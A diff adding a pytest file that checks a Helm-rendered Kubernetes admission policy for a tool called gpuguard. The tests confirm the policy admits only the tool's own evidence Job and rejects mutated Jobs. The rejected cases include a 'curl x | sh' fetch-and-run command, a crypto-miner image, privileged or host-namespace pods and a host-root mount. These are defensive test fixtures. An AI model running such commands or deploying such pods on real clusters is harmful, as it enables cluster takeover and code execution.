@@ -1,0 +1,134 @@
+"""The ValidatingAdmissionPolicy admits exactly the Jobs gpuguard builds: its CEL rules are
+evaluated (cel-python) against the evidence Job and against Jobs a stolen token might try."""
+
+from __future__ import annotations
+
+import copy
+import re
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import celpy
+import pytest
+import yaml
+
+from gpuguard.actuators import jobs
+
+CHART = Path(__file__).resolve().parents[2] / "deploy" / "helm" / "gpuguard"
+IMAGE = "ghcr.io/gpuguard/gpuguard:0.1.0"
+
+
+def render_default() -> list[dict[str, Any]]:
+    """What `helm template -n gpuguard` renders with default values, for this template only."""
+    text = (CHART / "templates" / "validatingadmissionpolicy.yaml").read_text()
+    text = re.sub(r"\{\{-? /\*.*?\*/ -?\}\}\n?", "", text, flags=re.S)
+    text = re.sub(r"\{\{-? (if|end)[^}]*\}\}\n?", "", text)
+    text = text.replace("{{ .Release.Namespace }}", "gpuguard")
+    text = text.replace(
+        "{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}", IMAGE
+    )
+    assert "{{" not in text, "an unrendered template expression is left"
+    return [doc for doc in yaml.safe_load_all(text) if doc]
+
+
+def policy() -> dict[str, Any]:
+    (vap,) = [d for d in render_default() if d["kind"] == "ValidatingAdmissionPolicy"]
+    return vap
+
+
+def failed_rules(job: dict[str, Any]) -> list[str]:
+    spec = policy()["spec"]
+    env = celpy.Environment()
+    activation: dict[str, Any] = {"object": celpy.json_to_cel(job)}
+    variables: dict[str, Any] = {}
+    for variable in spec["variables"]:
+        program = env.program(env.compile(variable["expression"]))
+        variables[variable["name"]] = program.evaluate(
+            activation | {"variables": celpy.json_to_cel(variables)}
+        )
+    activation["variables"] = celpy.celtypes.MapType(
+        {celpy.celtypes.StringType(k): v for k, v in variables.items()}
+    )
+    failed = []
+    for rule in spec["validations"]:
+        result = env.program(env.compile(rule["expression"])).evaluate(activation)
+        if result is not True and not (isinstance(result, celpy.celtypes.BoolType) and result):
+            failed.append(rule["message"])
+    return failed
+
+
+def evidence() -> dict[str, Any]:
+    return jobs.evidence_job("gpu-node-b", "2026-09-21T06:05:10Z", image=IMAGE)
+
+
+def test_the_evidence_job_gpuguard_builds_is_admitted() -> None:
+    assert failed_rules(evidence()) == []
+
+
+def _pod(job: dict[str, Any]) -> dict[str, Any]:
+    pod: dict[str, Any] = job["spec"]["template"]["spec"]
+    return pod
+
+
+def _container(job: dict[str, Any]) -> dict[str, Any]:
+    container: dict[str, Any] = _pod(job)["containers"][0]
+    return container
+
+
+MUTATIONS: list[tuple[str, str, Callable[[dict[str, Any]], None]]] = [
+    (
+        "privileged",
+        "unprivileged",
+        lambda j: _container(j)["securityContext"].update(privileged=True),
+    ),
+    ("host-pid", "host PID", lambda j: _pod(j).update(hostPID=True)),
+    ("host-network", "host PID", lambda j: _pod(j).update(hostNetwork=True)),
+    ("other-image", "own image", lambda j: _container(j).update(image="attacker/miner:latest")),
+    (
+        "shell-command",
+        "the command",
+        lambda j: _container(j).update(command=["sh", "-c", "curl x | sh"]),
+    ),
+    ("not-pinned", "pinned", lambda j: _pod(j).pop("nodeName")),
+    (
+        "sys-admin-cap",
+        "capabilities",
+        lambda j: _container(j)["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
+    ),
+    (
+        "writable-mount",
+        "read-only",
+        lambda j: _container(j)["volumeMounts"][0].update(readOnly=False),
+    ),
+    (
+        "host-root-volume",
+        "hostPath",
+        lambda j: _pod(j)["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
+    ),
+    ("api-token", "API token", lambda j: _pod(j).update(automountServiceAccountToken=True)),
+    (
+        "second-container",
+        "exactly one container",
+        lambda j: _pod(j)["containers"].append(copy.deepcopy(_container(j))),
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "rule", "mutate"), MUTATIONS, ids=[m[0] for m in MUTATIONS])
+def test_any_other_shape_is_refused_by_its_rule(
+    name: str, rule: str, mutate: Callable[[dict[str, Any]], None]
+) -> None:
+    job = evidence()
+    mutate(job)
+    failed = failed_rules(job)
+    assert len(failed) == 1, f"{name}: {failed}"
+    assert rule in failed[0]
+
+
+def test_policy_applies_only_to_gpuguards_service_account_and_is_bound_to_deny() -> None:
+    docs = render_default()
+    (binding,) = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding"]
+    assert binding["spec"]["validationActions"] == ["Deny"]
+    (condition,) = policy()["spec"]["matchConditions"]
+    assert "system:serviceaccount:gpuguard:gpuguard" in condition["expression"]
